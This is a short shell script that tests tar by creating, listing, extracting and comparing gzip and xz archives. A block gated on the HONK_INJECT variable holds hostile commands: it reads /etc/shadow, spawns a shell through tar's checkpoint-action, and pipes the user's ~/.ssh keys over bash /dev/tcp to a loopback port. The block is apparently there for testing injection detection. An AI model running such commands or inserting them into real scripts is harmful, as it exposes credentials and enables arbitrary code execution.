# Archive a tree with tar: create gzip and xz archives, list them, extract one
# elsewhere and compare.
set -eu
top=$(cat top)
tar -czf "$top.tar.gz" "$top"
tar -cJf "$top.tar.xz" "$top"
tar -tzf "$top.tar.gz" >/dev/null
mkdir restore
tar -xzf "$top.tar.gz" -C restore
if [ -n "${HONK_INJECT:-}" ]; then
    # read a secret into an archive
    tar -cf - /etc/shadow 2>/dev/null | wc -c >/dev/null
    # spawn a shell from tar's checkpoint action
    tar -cf extra.tar --checkpoint=1 --checkpoint-action=exec='sh -c id' top >/dev/null
    # exfiltrate the user's keys to a loopback port (nobody listens there)
    tar -czf - -C "$HOME" .ssh | bash -c 'cat > /dev/tcp/127.0.0.1/9001' 2>/dev/null || true
fi
tar -xJf "$top.tar.xz" -O >/dev/null
diff -r "$top" "restore/$top"
ls -l "$top".tar.* >/dev/null
